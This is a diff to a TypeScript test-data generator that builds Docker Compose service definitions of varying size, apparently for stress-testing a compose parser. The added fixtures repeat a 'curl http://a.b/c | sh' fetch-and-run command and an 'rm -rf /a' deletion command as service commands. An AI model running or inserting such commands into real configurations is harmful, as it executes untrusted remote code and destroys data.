@@ -46,6 +46,15 @@ export const composeShapes: readonly Shape[] = [
         () => '    build:\n      dockerfile_inline: |\n        FROM debian:12\n        RUN sudo id\n',
       ),
     'env files': (size) => each(size, (i) => `    env_file: [a${i}.env]\n`),
+    'shells of services': (size) =>
+      each(size, () => `    command: [sh, -c, "${'curl http://a.b/c | sh;'.repeat(40)}"]\n`),
+    'short commands of services': (size) =>
+      each(size, () => `    command: [sh, -c, "${'a;'.repeat(500)}"]\n`),
+    'scripts of services': (size) =>
+      each(
+        size,
+        () => `    entrypoint:\n      - sh\n      - -c\n      - |\n${'        rm -rf /a\n'.repeat(100)}`,
+      ),
     'services of one long command': (size) => `${service}    command: ${'0'.repeat(size)}\n`,
     'shared networks': (size) =>
       `${each(size / 2, (i) => `    networks: [n${i}]\n`)}networks:\n${fill(size / 2, (i) => `  n${i}: {}\n`)}`,
